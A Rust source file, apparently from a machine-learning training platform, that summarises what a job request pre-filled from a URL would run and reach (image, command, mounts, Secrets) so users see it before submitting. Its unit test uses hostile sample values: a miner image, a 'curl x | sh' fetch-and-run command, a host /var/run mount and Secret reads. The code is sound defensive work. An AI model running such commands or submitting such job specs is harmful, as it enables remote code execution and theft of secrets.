//! What a form filled in from its address carries. `/trainings/new?draft=…` opens any request a
//! link spells out, so before its reader submits, the form says where it came from and names
//! what would run and what it would reach: the image and command, each mount, and each Secret.

use super::Draft;
use serde_json::Value;

/// Each kind of mount: its key under `spec.storage`, how to call it, the field naming what it
/// mounts, and the field of where.
const MOUNTS: [(&str, &str, &str, &str); 8] = [
    ("secretVolume", "Secret", "secret", "mountPath"),
    ("pvc", "volume claim", "claimName", "path"),
    ("hostPath", "host path", "path", "mountPath"),
    ("nfs", "NFS export", "path", "mountPath"),
    ("s3", "S3 bucket", "bucket", "path"),
    ("git", "Git repository", "repository", "path"),
    ("configMapVolume", "ConfigMap", "configMap", "mountPath"),
    ("dataVolume", "data volume", "id", "mountPath"),
];

fn text(value: &Value) -> Option<&str> {
    value.as_str().filter(|s| !s.is_empty())
}

impl Draft {
    /// One line for each thing the request would run or reach, for people to read.
    pub fn carried(&self) -> Vec<String> {
        let spec = &self.0["spec"];
        let mut lines = Vec::new();
        if let Some(project) = text(&self.0["projectId"]) {
            lines.push(format!("in project {project}"));
        }
        if let Some(image) = text(&spec["image"]) {
            lines.push(format!("runs image {image}"));
        }
        if let Some(command) = text(&spec["command"]) {
            lines.push(format!("runs command {command}"));
        }
        for (key, kind, what, at) in MOUNTS {
            for mount in spec["storage"][key].as_array().into_iter().flatten() {
                let what = text(&mount[what]).unwrap_or("?");
                match text(&mount[at]) {
                    Some(at) => lines.push(format!("mounts {kind} {what} at {at}")),
                    None => lines.push(format!("mounts {kind} {what}")),
                }
            }
        }
        let variables = spec["environmentVariables"]
            .as_array()
            .into_iter()
            .flatten();
        for variable in variables {
            if let Some(secret) = text(&variable["secret"]["name"]) {
                let name = text(&variable["name"]).unwrap_or("?");
                lines.push(format!("reads Secret {secret} into {name}"));
            }
        }
        lines
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn what_a_link_would_run_and_reach_is_named() {
        let draft = Draft::from_stored(&json!({"name": "x", "projectId": "vision", "spec": {
            "image": "evil/miner", "command": "curl x | sh",
            "storage": {
                "secretVolume": [{"secret": "db-password", "mountPath": "/s"}],
                "hostPath": [{"path": "/var/run", "mountPath": "/h"}],
                "pvc": [{"claimName": "datasets", "path": "/data"}]},
            "environmentVariables": [
                {"name": "TOKEN", "secret": {"name": "api-token", "key": "t"}},
                {"name": "PLAIN", "value": "1"}]}}));
        assert_eq!(
            draft.carried(),
            [
                "in project vision",
                "runs image evil/miner",
                "runs command curl x | sh",
                "mounts Secret db-password at /s",
                "mounts volume claim datasets at /data",
                "mounts host path /var/run at /h",
                "reads Secret api-token into TOKEN",
            ]
        );
        assert_eq!(Draft::new("p").carried(), ["in project p"]);
    }
}
